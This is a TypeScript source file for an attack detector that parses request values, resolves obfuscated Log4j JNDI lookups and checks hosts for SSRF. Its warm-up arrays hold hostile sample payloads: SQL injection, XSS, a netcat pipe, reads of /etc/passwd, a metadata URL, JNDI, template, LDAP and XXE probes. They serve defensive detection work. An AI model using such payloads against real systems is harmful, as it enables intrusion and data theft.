  ...SQLI, SERVER_READS, ...XSS, SUBSCRIPT, PIECE, CONSTRUCTOR_SINK, TAG_IN_WORD, SHORT_TAGS, HIGH_BIT_TAG, HIGH_BIT, HIGH_BYTE_TAG, HIGH_BYTE, LOW_BYTE_TAG, LOW_BYTE, PROCESS_SUBSTITUTION, CODE_INDEX, OCTAL_ESCAPES, OCTAL_ESCAPE, ...TRAVERSAL, LONE_CLIMB, QUERY_VALUE, EMBEDDED_SCHEME, NETWORK_LOOKUP, NOSQL_CALLS, ...RCE, DASHED_ADDRESS, HOST_PATH, SITE_AS_LABELS, NAMED_FOR_SITE, HOST_SYMBOL, BREAK_AFTER_HOST, MIXED_CASE_SCHEME, TABLE_DELIMITER, TABLE_ROW, CONTINUES, TABLE_START, TEXT_TABLE_DELIMITER, TEXT_TABLE_ROW, TEXT_TABLE_BORDER, C_FOR_HEADER, TAG_NAMED, RUNNER_EXPRESSIONS, SENTENCE_SYSTEM_FILE, SENTENCE_SYSTEM_FILES, NON_LATIN_PROSE, FILES_KEY, ...SSTI, ...SSTI_SHORT, ...PRIVATE_HOST, ...NOSQLI, ...CODE_NOSQLI, ...LDAPI, DIRECTORY_KEY, WILDCARD_CLOSE, ...XXE,
  ...Object.values(GATE), SPECIAL, JSON_SPECIAL, WORDS, URL_IN_VALUE, SCHEME_ONLY, PORT_TARGET, EXTGLOB, EXTGLOB_ALL, GLOB_CLIMB, ACCELERATOR, SHELL_ESCAPE, ASSET_CLIMB, BUILT_MODULE_CLIMB, QUOTED_ONE_WORD, SCHEME_REST, METHOD_BEFORE_URL, JDBC_HOST, BACKREFERENCE_HOST, PHP_ENCODED_NAME, PHP_JOINED_NAME, PHP_PIECE, CONFUSING_AUTHORITY, LINK, DANGLING, NESTED_SCHEME, WEB_SCHEME, SMUGGLING_SCHEME, DANGEROUS_SCHEME, COMMAND_FIELD, ADDRESS, FILE_URL, FILE_URL_START, DOT_SEGMENTS, LEADING_DOT, HANDED_SCHEME, DOCUMENTATION_HOST, DOTTED_DECIMAL, DECIMAL_HOST, CIDR, OCTAL_DIGITS, LEADING_ZERO_PART, METADATA_HOST, OBFUSCATED_HOST, NUMERIC_HOST, BARE_HOST, PRIVATE_SUFFIX_ALONE, ENCLOSED, METADATA_IN_URL, METADATA_IN_NAME, SINGLE_LABEL, FILE_URL_ANY, OOB_HOST, CALLBACK_HOST, URL_PARAM, IP_ADDRESS_KEY, BSON_TYPE, FILE_NAMED_KEY,
  ABSOLUTE_PATH, DRIVE_DOCUMENT, PROGRAM_DIRECTORIES, REVERSE_DNS_END, CREDENTIAL_FIELD, PRIVILEGED_NAME, WINDOWS_PATH_LIST, STRAPI_FILTER, SECURITY_POLICY, FILE_PARAM, REMOTE_INCLUSION, INCLUDED_FILE_KEY, INCLUDED_SCRIPT, PROGRAM_FILE, SERVER_FILE, PLACEHOLDER_PATH, SERVER_EXTENSION, CLIMB_TO_SERVER_FILE, RELATIVE_SYSTEM_PATH, ESCAPED_PATH, SSI, PLUS_MARKUP, CRLF_START, CRLF, CRLF_ANY_NAME, YAML_BLOCK_START, CRLF_ANY_HEADER, CRLF_MAIL_HEADER, CRLF_REQUEST, CRLF_LEAD, WINDOWS_ROOT_PATH, DOUBLED_BREAK, NESTED_BREAK, BREAKS, ENCODED_BREAK, REDIRECT_PARAM, EMAIL_ADDRESS, MAIL_KEY, NESTED_URL_PARAM, BODY_REDIRECT, NESTED_REDIRECT, BARE_TARGET, BARE_ADDRESS, INVISIBLE_START, IGNORABLE, BACKSLASHES, BARE_IPV6, PORT, IPV4_PORT, LONG_HEX, PATH_THEN_URL, DISGUISED_URL, REDIRECT_PATH, HOST_CLIMB_PATH, CLIMB_TO_HOST, LEADING_CONTROLS, HOMOGRAPH, BLANK_HOST_PATH, REDIRECTOR, HOST_QUERY, SECOND_URL, ENCODED_UNRESERVED, ABSOLUTE_URL, LEADING_USERINFO, TRAILING_PORT, JNDI, PROVIDER_KEY, ONE_LETTER, LOOKUP, LOOKUP_SYNTAX, JNDI_LEFT, TRAILING_ADDRESS, PERCENTLESS_SLASH, SELF_COMPARE, CONFIG_XML, SCANNER_AGENT, PRODUCT_FIRST, AGENT_COMMENT, AGENT_ITEM, AGENT_OPTION, SCANNER_PATH, SEARCH_INDEX, BACKUP_PATH, PROBED_FILE, BACKUP_ARCHIVE,
  SSTI_TAG, MARKDOWN_START, SETEXT_START, MARKDOWN_ESCAPED_LT, LIST_ITEM, INDENTED_CODE, CODE_SIGNS, EMBED, COMPONENT_SCRIPT, SCRIPT_SINK, STRING_LITERALS,
  SCRIPT_SOURCE, SCRIPT_EXTENSION, VERSION_KEY, SITE_GLUED, COUNTRY_SITE, STACKED_CUT, BAR_SIGIL, CLIMB_SEPARATOR, VERSIONED_KEYWORD, DIALOGUE_DASH, SQL_SIGN, CSS_ESCAPE_CHAR, DOWNLOADER, URL_HOSTS, CMD_SUBSTRING, CRLF_TRAIL, DOUBLE_QUOTED_DASH, FOREIGN_SCHEME, NETWORK_SCHEME, TYPOGRAPHIC_QUOTE, TYPOGRAPHIC_QUOTES, JOINED_LITERALS, JOINED_LITERALS_ALL, LOOPBACK_LINK, QUOTED_DIV, QUOTED_DIVS, PROMQL_DEFAULT, PROMQL_DEFAULTS, PROMQL_SELECTOR, PROMQL_OR, PROMQL_ORS, GRAFANA_VARIABLE, GRAFANA_ASSIGNED, VARIABLE_ALTERNATION, VARIABLE_NAME, PLAIN_ROW, SETTING_BUILTIN, TYPE_NUMBER, ANNOTATED_QUERY, MARKUP_URL, COMMENT_BLANK, PROGRAM_LINE, COMMENT_LINE, BLOCK_COMMENT, JSX_HANDLER, MULTILINE_LITERALS, RETURN_TYPE_LINE, FN_DECLARED, SIGNATURE_LINE, SHELL_WORD_PAREN, RUST_REFERENCE, CPP_REFERENCE, TRAILING_SCRIPT_CLOSE, TRAILING_PAGE_CLOSE, SVG_ICON, SVG_COMMENT, SVG_DRAWING, SVG_ACTIVE, SVG_DATA, SVG_DATA_ACTIVE, XML_DECLARATION, URL_GOES_ON, ROUTER_MATCHER, ROUTER_RULE_REST, ASYNC_STYLE, NO_OP_LINK, NO_OP_HANDLER, NAME_HANDLER, OWN_FUNCTION_HANDLER, NO_OP_URL, LOCAL_USE, INERT_SVG_STYLE, SVG_DOCTYPE, SVG_CONTROL, SVG_FOREIGN_ENCODING, SVG_DATA_LOOSE, ASCII_BLANKS, TEMPLATE_SCRIPT_SRC, MATHJAX_CONFIG, MATHJAX_CUT, STYLE_ELEMENT, FONT_IMPORT, STYLE_LOADS, DATA_SCRIPT, CLASS_LOADER_PATH, CLASS_LOADER_NAME, PROVIDER_SCRIPT, VIDEO_EMBED, EMBED_SOURCE, GRAPHQL_LITERAL, TAG_PLACEHOLDER, PROMPT_ARGUMENT, TYPE_ARGUMENTS, TAG_HANDLER, OWN_SQL_CALL, OWN_SQL_CALL_GATE, RUST_MACRO, RUST_REPETITION, METAVARIABLE, SHELL_BINDING, ADDRESS_OF, ADDRESS_ASSIGNED, C_FAMILY, GO_FOR_HEADER, CONDITION_LINE, LOGICAL, SIGIL_LOGIC, PERL_PROGRAM, CODE_SINK, BARE_PROBE_SINK, PERL_FOREIGN_SINK, CODE_REFERENCE, HASH_COMMENT_LINE, DECLARATION, REGEX_LITERAL, ...SQL_PATTERNS, ...SHELL_PATTERNS, ...BUILD_FILE_PATTERNS, ...POWERSHELL_PATTERNS, URL_QUERY, PLUS_ALL, PLUS_KEYWORD, QUOTED_DASH, SQL_COMMENT, URL_BLANK, URL_BLANKS, QUOTE_BLANKS, CSS_COMMENT, CSS_ESCAPE, CSS_EXPRESSION, BOUNDARY, DOCUMENT, CODE_SPANS, BICEP_DECLARATION, BICEP_COMPLEX, DISPLAY_MATH, MARKDOWN_COMMENT, COMMENT_FETCHES, CUT_LAST_STRING, CUT_ESCAPE, INDEX_KEY, IMAGE_ALT, PROSE, REGEX_SOURCE, SUBSTITUTION_OPEN, ...DECODE_PATTERNS, ...TEMPLATE_PAGE_PATTERNS, ...PAGE_MARKUP_PATTERNS,
  ROOTED_PATH, FOLDER_FIRST_PATH, WEB_ASSET_END, SVG_OPENING_ALONE, SCRIPT_STRINGS, ORIGIN_SINK, OVERLONG_CLIMB, OVERLONG_SENT, SPLIT_WORDS, KEYWORD_SPLITS, DOT_BEFORE_CLIMB, BLOCK_ENDS_SOONER, MODULE_ATTRIBUTE, MODULE_FIRST, LEADING_COMMENT, GQL_IMPORT, GRAPHQL_OPERATION, TRAILING_CLOSE_ALONE, GQL_MODULE, PWD_IN_PATH, PREPROCESSOR_STYLE, PARTIAL_IMPORT,
]

/** Where a value came from: what each class may judge in it depends on it. */
const VALUE = 0 // a query, form, JSON, multipart or XML value
const PATH = 1 // the whole path
const PAGE_URL = 2 // Referer, Origin: the browser's own page
const HEADER = 3 // a header value, a cookie
const NAME = 4 // a parameter's, a field's, a cookie's name
type Mode = typeof VALUE | typeof PATH | typeof PAGE_URL | typeof HEADER | typeof NAME

/** verdicts kept per kind of input, and the longest input kept */
const MAX_VERDICTS = 4_096
const MAX_VERDICT_KEY = 512

/** Headers a browser or the transport sets, whose values no application reads as data. */
const TRANSPORT_HEADERS = new Set([
  'host', 'accept', 'accept-encoding', 'accept-language', 'accept-charset', 'connection', 'content-length', 'content-type', 'content-encoding', 'cache-control', 'pragma',
  'upgrade-insecure-requests', 'te', 'dnt', 'priority', 'if-none-match', 'if-modified-since', 'if-match', 'if-unmodified-since', 'if-range', 'range', 'authorization',
  'proxy-authorization', 'keep-alive', 'upgrade', 'transfer-encoding', 'expect', 'traceparent', 'tracestate', 'baggage', 'sec-websocket-key', 'sec-websocket-version',
  'sec-websocket-extensions', 'sec-websocket-protocol', 'content-md5', 'x-request-id', 'x-correlation-id', 'x-amzn-trace-id',
])
/** What a parameter's name says it holds (worked out once per name: names repeat). */
const URL_KEY = 1
const REDIRECT_KEY = 2
/** OAuth's and OpenID Connect's redirection parameters (RFC 6749, 3.1.2; OpenID Connect RP-Initiated Logout) */
const OAUTH_REDIRECT_KEY = /^(?:redirect_uri|post_logout_redirect_uri)$/i
const FILE_KEY = 4
const COMMAND_KEY = 8
const MAX_KEYS = 1_024

/** Values up to this long are judged for template probes that documentation also quotes (SSTI_SHORT). */
const SHORT_TEMPLATE = 200

/** The shell gate: a separator (one native search each), else GATE.rce's other alternatives (`$(`, interpreters, sinks). */
const rceGate = (v: string) => v.includes(';') || v.includes('&') || v.includes('|') || v.includes('`') || v.includes('\n') || GATE.rce.test(v)

/** Characters each class needs, found in one pass over a value (a table lookup per character). */
const C_QUOTE = 1 << 0
const C_PAREN = 1 << 1
const C_RPAREN = 1 << 2
const C_LT = 1 << 3
const C_AMP = 1 << 4
const C_PIPE = 1 << 5
const C_SEMI = 1 << 6
const C_DOLLAR = 1 << 7
const C_BRACE = 1 << 8
const C_BSL = 1 << 9
const C_SLASH = 1 << 10
const C_COLON = 1 << 11
const C_PCT = 1 << 12
const C_HASH = 1 << 13
const C_EQ = 1 << 14
const C_STAR = 1 << 15
const C_BREAK = 1 << 16
const C_DOT = 1 << 17
const C_AT = 1 << 18
const C_BACKTICK = 1 << 19
const C_PLUS = 1 << 20
const C_BRACKET = 1 << 21
const C_NUL = 1 << 22
const C_DASH = 1 << 23
const C_COMMA = 1 << 24
const C_WIDE = 1 << 25
const CHAR_CLASS = new Uint32Array(128)
for (const [chars, bit] of [[`'"`, C_QUOTE], ['(', C_PAREN], [')', C_RPAREN | C_PAREN], ['<>', C_LT], ['&', C_AMP], ['|', C_PIPE], [';', C_SEMI], ['$', C_DOLLAR], ['{}', C_BRACE], ['\\', C_BSL], ['/', C_SLASH], [':', C_COLON], ['%', C_PCT], ['#', C_HASH], ['=', C_EQ], ['*', C_STAR], ['\n\r', C_BREAK], ['.', C_DOT], ['@', C_AT], ['`', C_BACKTICK | C_QUOTE], ['+', C_PLUS], ['[]', C_BRACKET], ['\0', C_NUL], ['-', C_DASH], [',', C_COMMA]] as const) {
  for (const c of chars) CHAR_CLASS[c.charCodeAt(0)]! |= bit
}
function charFlags(v: string): number {
  let f = 0
  for (let i = 0; i < v.length; i++) {
    const c = v.charCodeAt(i)
    f |= c < 128 ? CHAR_CLASS[c]! : C_WIDE
  }
  return f
}

/** A value that may be a command line on its own: a word of 2 to 12 letters, then a blank or the end. */
function maybeCommand(v: string): boolean {
  let i = 0
  while (i < v.length && i < 13) {
    const c = v.charCodeAt(i) | 32
    if (c < 97 || c > 122) break
    i++
  }
  return i >= 2 && i <= 12 && (i === v.length || v.charCodeAt(i) === 32 || v.charCodeAt(i) === 9 || v.charCodeAt(i) === 46)
}

const BIT: Record<AttackType, number> = Object.fromEntries(ATTACK_TYPES.map((t, i) => [t, 1 << i])) as Record<AttackType, number>
/**
 * (fifty-first round) How long a value the unions judge: a longer one is judged signature by signature, with the same answer. V8 scans
 * one pattern past the positions its first character rules out, and a union of patterns some of which open on a lookaround, a blank or
 * a word boundary at every position: on a 16 KiB run of one punctuation mark a union cost up to 10–40 times its members together (the
 * NoSQL signatures 18 ms on `&&`, the short template probes 36 ms on `${`), while on a short value one scan beats twenty.
 */
const UNION_MAX = 1024
/**
 * (fifty-first round) Each signature of the lists, run once at start-up on a value past UNION_MAX: V8 compiles a pattern to machine code
 * the first time it scans a long value, and values past UNION_MAX are judged signature by signature — compiled on the first hostile value,
 * the few hundred signatures held the event loop for tens of milliseconds once, in the reliability campaign's first batch.
 */
const WARM_VALUE = 'a=1&b=<x y="z">; ${c} | d\n'.repeat(Math.ceil((UNION_MAX + 1) / 26))
for (const list of UNIONS.keys()) for (const re of list) re.test(WARM_VALUE)
/**
 * Values that lead the detector through its readings once (SQL, markup, shell, paths, addresses, lookups, templates, a JSON, an XML and a
 * form body): V8 compiles a pattern at its first use, and the first hostile requests paid that on the event loop (the hostile-input
 * campaign's first batch held it ~60 ms, its later ones 15-30 ms). The signature lists' own warming (WARM_VALUE) covers values past
 * UNION_MAX; these, the readings short values take (AttackDetector.warmUp, called once a detector is built).
 */
const WARM_UP: readonly AttackInputs[] = [
  `q=${encodeURIComponent("1' OR 1=1-- ")}&r=${encodeURIComponent('<img src=x onerror=alert(1)>')}&s=${encodeURIComponent(';cat /etc/passwd')}`,
  `q=${encodeURIComponent('$(id) `whoami` | nc 127.0.0.1 4444')}&u=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`,
  `q=${encodeURIComponent('${jndi:ldap://127.0.0.1/a} {{7*7}} ${7*7} <%= 7*7 %> ../../../etc/passwd *)(uid=*))(|(uid=*')}`,
].map((query) => ({ path: '/api/items/1', query, headers: { host: 'warm-up.invalid', 'user-agent': 'warm-up', cookie: 'a=1' }, body: null }))
const WARM_UP_BODIES: readonly [string, string][] = [
  ['application/json', JSON.stringify({ name: 'Ada', note: "x'); DROP TABLE users;--", html: '<script>alert(1)</script>', code: 'const a = 1;\nif (a && b) { run(); }\n', md: '# Title\n\n```sh\nnpm ci && npm test\n```\n', where: { $where: 'sleep(100)' } })],
  ['application/xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['application/x-www-form-urlencoded', `a=${encodeURIComponent('<svg onload=alert(1)>')}&b=${encodeURIComponent('1 UNION SELECT password FROM users')}`],
]

const anyOf = (patterns: readonly RegExp[], v: string): boolean => {
  const union = v.length <= UNION_MAX ? UNIONS.get(patterns) : undefined
  if (union !== undefined) return union.test(v)
  for (const p of patterns) if (p.test(v)) return true
  return false
}

/** (forty-ninth round) Java's system properties that read the same on every Unix server's JVM, by their lookup (see jndiLookup) */
const SYSTEM_PROPERTY_VALUES = new Map([
  ['sys:sun.cpu.isalist', ''],
  ['sys:path.separator', ':'],
  ['sys:file.separator', '/'],
])
/**
 * Whether a JNDI lookup survives Log4j's own lookups: the innermost `${...}` are resolved, repeatedly
 * (`${lower:J}` `${upper:ı}` `${::-j}` `${env:X:-j}` `${date:'j'}` `${k8s:k5:-ND}`; an unknown lookup
 * with no default is replaced by a letter), and a `${jndi:` found on the way is the answer.
 */
export function jndiLookup(v: string): boolean {
  // (eleventh round) a lookup that reaches the network or runs a script by itself: Commons Text's
  // `${url:UTF-8::http://…}`, `${dns:address|…}`, `${script:javascript:…}`, and a lookup naming a JNDI
  // provider's URL with no `jndi:` (`${ldap://10.0.0.1:1389/a}`)
  if (NETWORK_LOOKUP.test(v)) return true
  let s = v
  // (the value may come in its own case for a base64 lookup's sake: everything else is read lower-cased)
  // (forty-ninth round: 48 rounds, one lookup each — a Log4Shell scanner's payload interleaves ten or more empty ones)
  for (let round = 0; round < 48 && s.includes('${'); round++) {
    // (fifty-first round) each round reads the whole value: past the request's time budget the rounds stop, the lookups left read below
    if ((round & 7) === 7 && overdue()) break
    if (JNDI.test(s.toLowerCase()) || (round > 0 && NETWORK_LOOKUP.test(s.toLowerCase()))) return true
    const m = LOOKUP.exec(s)
    // unbalanced (more `${` than `}`): read below with the lookup syntax dropped
    if (m === null) break
    const original = m[1]!
    const body = original.toLowerCase()
    let out: string
    const dflt = body.indexOf(':-')
    if (dflt !== -1) out = body.slice(dflt + 2)
    else if (body.startsWith('lower:') || body.startsWith('upper:')) out = body.slice(6).replace(/\u0131/g, 'i').replace(/\u017f/g, 's')
    else if (body.startsWith("date:'") && body.endsWith("'")) out = body.slice(6, -1)
    // (a base64 lookup spelling part of the name: `${jn${base64:ZGk=}:ldap://}`; the value is lower-cased, so
    // its letters' case is lost: read as it is, which a name spelt in lower case survives)
    else if (body.startsWith('base64:')) out = Buffer.from(original.slice(7), 'base64').toString('latin1').toLowerCase()
    else if (/^\s*j\s*n\s*d\s*i\s*:/.test(body)) return true
    // (twelfth round) a lookup, once its nested ones are resolved, whose key is a JNDI provider's URL
    // (`${${date:Y}${date:m}:ldap://…}`, `${jxdi:ldap://…}`)
    else if (round > 0 && PROVIDER_KEY.test(body)) return true
    // (twelfth round) a lookup given one letter spells that letter (`${${lookup:l}${lookup:d}ap://…}`,
    // `${${date:l}da${date:p}://…}`): the obfuscation's intent, a name put together a letter at a time
    else if (ONE_LETTER.test(body)) out = body.charAt(body.length - 1)
    // (forty-ninth round) a Java system property whose value every JVM on a server shares: `${sys:sun.cpu.isalist}` is empty but on
    // Solaris, `${sys:path.separator}` and `${sys:file.separator}` are `:` and `/` on Unix — a scanner's way to spell `jndi:ldap:` apart
    else if (SYSTEM_PROPERTY_VALUES.has(body)) out = SYSTEM_PROPERTY_VALUES.get(body)!
    else out = body.includes(':') ? 'x' : body
    s = s.slice(0, m.index) + out + s.slice(m.index + m[0].length)
  }
  if (JNDI.test(s.toLowerCase())) return true
  // lookups too tangled to resolve: drop their syntax and look for what is left
  return JNDI_LEFT.test(v.toLowerCase().replace(LOOKUP_SYNTAX, ''))
}

/** A host name as the URL gives it: without the trailing dot, its enclosed alphanumerics folded. */
function hostOf(raw: string): string {
  // (twenty-fifth round: every trailing dot, `127.0.0.1..`, which resolvers drop as they drop one)
  let h = raw
  while (h.endsWith('.')) h = h.slice(0, -1)
  // ①②⓪ⓐ... (enclosed alphanumerics) and full-width letters resolve to ASCII in some URL parsers; characters
  // IDNA maps to nothing (a soft hyphen, zero-width spaces and joiners, Mongolian variation selectors) are dropped
  if (/[^\x00-\x7f]/.test(h)) h = h.replace(IGNORABLE, '').normalize('NFKC').replace(/[\u24ea\u24ff]/g, '0').toLowerCase()
  return h
}

/** A Host-like header's host, without the port; '' when absent. */
function authorityOf(headers: AttackInputs['headers'], name: string): string {
  const v = headers[name]
  const text = Array.isArray(v) ? v[0] : v
  if (text === undefined || text === '') return ''
  const h = text.trim().toLowerCase()
  return h.startsWith('[') ? h.slice(0, h.indexOf(']') + 1) : h.split(':')[0]!
}

/** Where an absolute URL's authority ends (the first `/`, `?` or `#` after `//`), or the value's length. */
/** The host a browser goes to for an absolute or protocol-relative URL, as the URL standard parses it; undefined where it refuses it. */
function browserHost(url: string): string | undefined {
  try {
    return new URL(url.trimStart().startsWith('//') ? `https:${url.trimStart()}` : url.trim()).hostname.toLowerCase()
  } catch {
    return undefined
  }
}

function authorityEnd(v: string): number {
  const start = v.indexOf('//')
  if (start === -1) return 0
  for (let i = start + 2; i < v.length; i++) if (v[i] === '/' || v[i] === '?' || v[i] === '#') return i
  return v.length
}

/** Where a URL's query or fragment starts (the first `?` or `#` from its authority's end), or the value's length. */
function queryStart(v: string, from: number): number {
  for (let i = from; i < v.length; i++) if (v[i] === '?' || v[i] === '#') return i
  return v.length
}

/** A host's site: its last two labels, three under a country's second level (`co.uk`, `com.au`); an address is its own. */
function siteOf(fqdn: string): string {
  // (review) a fully qualified name's root dot (`Host: shop.example.com.`) is no label: its site is not `com.`
  const host = fqdn.replace(/\.+$/, '')
  if (!host.includes('.') || /^[\d.]+$/.test(host) || host.startsWith('[')) return host
  const labels = host.split('.')
  const n = labels.length >= 3 && labels.at(-1)!.length === 2 && labels.at(-2)!.length <= 3 ? 3 : 2
  return labels.length > n ? labels.slice(-n).join('.') : host
}

/** The request's own authority as a site sees it: its Host and X-Forwarded-Host (a CDN's public name). */
function ownHosts(headers: AttackInputs['headers']): string[] {
  const out: string[] = []
  for (const name of ['host', 'x-forwarded-host']) {
    const h = authorityOf(headers, name)
    if (h !== '') out.push(h)
  }
  return out
}

/**
 * Whether a parsed JSON text nests objects: an object as a member's value, or in an array that is one
 * (`{"jest":{…}}`, `{"references":[{"path":…}]}`, a list of such objects); a form's few fields and their
 * arrays of strings do not. Looks at two levels, a bounded number of members.
 */
function nestsObjects(doc: unknown): boolean {
  const isObject = (x: unknown) => x !== null && typeof x === 'object' && !Array.isArray(x)
  const members = (x: unknown): unknown[] => (Array.isArray(x) ? x.slice(0, 64) : isObject(x) ? Object.values(x as object).slice(0, 64) : [])
  const top = Array.isArray(doc) ? members(doc).filter(isObject) : [doc]
  for (const o of top.slice(0, 16)) {
    for (const m of members(o)) if (isObject(m) || (Array.isArray(m) && m.slice(0, 16).some(isObject))) return true
  }
  return false
}

/** (review of the twenty-seventh round) A JSON Schema's keywords whose value is a subschema, or a list of them */
const SUBSCHEMA_KEYWORDS = new Set(['items', 'prefixItems', 'additionalItems', 'additionalProperties', 'unevaluatedProperties', 'unevaluatedItems', 'propertyNames', 'contains', 'not', 'if', 'then', 'else', 'anyOf', 'oneOf', 'allOf'])
/** …and whose value maps names to subschemas */
const SUBSCHEMA_MAPS = new Set(['properties', 'patternProperties', 'definitions', '$defs', 'dependentSchemas'])
const isStringType = (t: unknown) => t === 'string' || (Array.isArray(t) && t.includes('string'))
/**
 * (review of the twenty-seventh round) The `pattern`s of a JSON Schema's subschemas that constrain a string (`"properties": {"Url":
 * {"type": "string", "pattern": …}}`, `"propertyNames": {"pattern": …}`), reached from the document's root through the schema's
 * keywords, and written nowhere else in it: regular expressions for its validator. A request's own `pattern` field (`{"pattern":
 * "; id", "$ref": "#"}`, `{"filter": {"type": "string", "pattern": …}}`) is none; bounded in depth and in the nodes looked at.
 */
function schemaPatterns(doc: unknown): Set<string> {
  const inSchema = new Set<string>()
  const elsewhere = new Set<string>()
  let budget = 4096
  const walk = (x: unknown, subschema: boolean, stringy: boolean, depth: number): void => {
    if (--budget < 0 || depth > 32) return
    if (typeof x === 'string') elsewhere.add(x)
    else if (Array.isArray(x)) for (const item of x) walk(item, subschema, stringy, depth + 1)
    else if (x !== null && typeof x === 'object') {
      const o = x as Record<string, unknown>
      for (const k in o) {
        const m = o[k]
        if (k === 'pattern' && typeof m === 'string' && subschema && (stringy || isStringType(o.type))) inSchema.add(m)
        else if (SUBSCHEMA_MAPS.has(k) && m !== null && typeof m === 'object' && !Array.isArray(m)) for (const name in m) walk((m as Record<string, unknown>)[name], true, false, depth + 2)
        else if (SUBSCHEMA_KEYWORDS.has(k) && m !== null && typeof m === 'object') walk(m, true, k === 'propertyNames', depth + 1)
        else walk(m, false, false, depth + 1)
      }
    }
  }
  walk(doc, false, false, 0)
  return writtenOnlyThere(inSchema, elsewhere, budget < 0)
}

/**
 * The strings found where a walk looked for them and written nowhere else in the document; none when the walk ran out of its budget
 * (a document too large to walk whole may write one again where the walk did not look).
 */
function writtenOnlyThere(found: Set<string>, elsewhere: ReadonlySet<string>, exhausted: boolean): Set<string> {
  if (exhausted) return new Set()
  for (const v of elsewhere) found.delete(v)
  return found
}

/**
 * (thirty-second round) The links of a HAL document (`{"_links": {"self": {"href": …}}}`, an `_embedded` resource's too), written
 * nowhere else in it: a hypermedia resource's own links, as a client sends the resource back. Bounded in the nodes looked at; a document
 * too large to walk whole has none.
 */
function halLinks(doc: unknown): Set<string> {
  const links = new Set<string>()
  const elsewhere = new Set<string>()
  let budget = 8192
  const walk = (x: unknown, inLinks: boolean, key: string, depth: number): void => {
    if (--budget < 0 || depth > 32) return
    if (typeof x === 'string') (inLinks && key === 'href' ? links : elsewhere).add(x)
    else if (Array.isArray(x)) for (const item of x) walk(item, inLinks, key, depth + 1)
    else if (x !== null && typeof x === 'object') for (const k in x as Record<string, unknown>) walk((x as Record<string, unknown>)[k], inLinks || k === '_links', k, depth + 1)
  }
  walk(doc, false, '', 0)
  return writtenOnlyThere(links, elsewhere, budget < 0)
}

/**
 * (twenty-seventh round) The `if` conditions of a GitHub Actions workflow's jobs and steps (`{"jobs": {"test": {"if": …, "steps":
 * [{"if": …}]}}}`), written nowhere else in the document: the runner's expressions. Bounded in the nodes looked at.
 */
function workflowConditions(doc: unknown): Set<string> {
  const conditions = new Set<string>()
  const jobs = doc !== null && typeof doc === 'object' ? (doc as Record<string, unknown>).jobs : undefined
  if (jobs === null || typeof jobs !== 'object' || Array.isArray(jobs)) return conditions
  let budget = 1024
  for (const name in jobs) {
    if (--budget < 0) break
    const job = (jobs as Record<string, unknown>)[name]
    if (job === null || typeof job !== 'object') continue
    const j = job as Record<string, unknown>
    if (typeof j.if === 'string') conditions.add(j.if)
    if (Array.isArray(j.steps)) {
      for (const step of j.steps) {
        if (--budget < 0) break
        if (step !== null && typeof step === 'object' && typeof (step as Record<string, unknown>).if === 'string') conditions.add((step as Record<string, unknown>).if as string)
      }
    }
  }
  if (conditions.size === 0) return conditions
  // written elsewhere too: read
  const walk = (x: unknown, key: string, depth: number): void => {
    if (--budget < 0 || depth > 32) return
    if (typeof x === 'string') {
      if (key !== 'if') conditions.delete(x)
    } else if (Array.isArray(x)) for (const item of x) walk(item, key, depth + 1)
    else if (x !== null && typeof x === 'object') for (const k in x as Record<string, unknown>) walk((x as Record<string, unknown>)[k], k, depth + 1)
  }
  budget = 8192
  walk(doc, '', 0)
  // a document too large to walk whole may write a condition again where the walk did not look: none is skipped
  return budget < 0 ? new Set() : conditions
}

const isLoopback = (h: string) => h === 'localhost' || h.startsWith('127.') || h === '[::1]' || h.endsWith('.localhost')
/** (thirtieth round) an OAuth client's own loopback listener as its redirection (RFC 8252, 7.3: `redirect_uri=http://127.0.0.1:51004/cb`) */
const oauthLoopback = (h: string, scheme: string, key: string) => scheme === 'http' && (h === 'localhost' || h === '127.0.0.1' || h === '[::1]') && OAUTH_REDIRECT_KEY.test(key)

function headerText(value: string | string[] | undefined): string {
  return value === undefined ? '' : Array.isArray(value) ? value.join('\n') : value
}

/** What decoding made of a value (`AttackDetector#markupDecoded`): characters that shape markup; anything at all. */
const MADE_MARKUP = 1
const DECODED = 2

export class AttackDetector {
  readonly #maxInspectBytes: number
  /** `insight.maxInspectTime`: how long one request's values may be judged (Infinity: no limit, as the evaluation and tests judge) */
  readonly #maxInspectMs: number
  /** when the request being judged runs out of time (performance.now()), and whether it did */
  #until = Infinity
  /**
   * (thirty-sixth round, review) Whether a decoding the application does not do made quotes, angle brackets, `=`, `/` or blanks in the value
   * being judged (decode.ts, `lastDecode`), or it holds a vertical tab or a form feed: such characters are text to a browser's tokenizer
   * (`onerror=&quot;return&#32;false&quot;/(0,eval)(top.name)` is an unquoted handler that runs), so the exemptions that trust a tag's quotes
   * do not apply (`MADE_MARKUP`); and whether such a decoding changed anything (`DECODED`: a provider's script's address must be as sent). Set by `#value` for the value it judges
   * (and anything judged inside it: a query or a JSON document in the value), restored after; false outside.
   */
  #markupDecoded = 0
  /** what the last `#decode` found (`MADE_MARKUP`, `DECODED`; see `#markupDecoded`): handed to `#value` with the value */
  #decodedMarkup = 0
  #cut = false
  /** whether the last request judged had a header value longer than maxInspectBytes (judged on its first maxInspectBytes) */
  #longHeader = false
  /** while locating: the one deadline of every part's judgement (set on locate's own probe) */
  #deadline: number | undefined
  /** values judged in this request since the clock was last read */
  #sinceClock = 0
  /** a verdict is remembered only when its request was judged whole (not cut by the time budget) */
  readonly #whole = (): boolean => !this.#cut
  /** the request being judged: its headers, its own hosts (read from them when a judge first needs them), and whether its body is a document rather than a few fields */
  #headers: AttackInputs['headers'] = {}
  #ownHosts: string[] | undefined
  #ownSiteNames: string[] | undefined
  /**
   * (review) whether the value judged is a query that is one token and nothing else (`?127.0.0.1:22`): a host and a port
   * are a target there, not in a JSON array's strings (`["10.0.0.1:9092"]`, a list of brokers) whose key is empty too
   */
  #wholeQuery = false
  get #own(): string[] {
    return (this.#ownHosts ??= ownHosts(this.#headers))
  }

  /**
   * (fourteenth round) The own hosts and the site each belongs to (`shop.example.com` → `example.com`; two labels, three
   * under a country's second level, `shop.example.co.uk`): a check for the site's name in a URL is passed by naming it
   * anywhere (`https://example.com.evil.example`, `https://evil.example/example.com`).
   */
  get #ownSites(): string[] {
    return (this.#ownSiteNames ??= this.#own.flatMap((h) => {
      const site = siteOf(h)
      return site === h ? [h] : [h, site]
    }))
  }
  /**
   * the Host alone: what lets a private target pass as the request's own (SSRF). X-Forwarded-Host is
   * any client's to write, so naming a private address there would hide a request for it
   */
  #hostName: string | undefined
  get #host(): string {
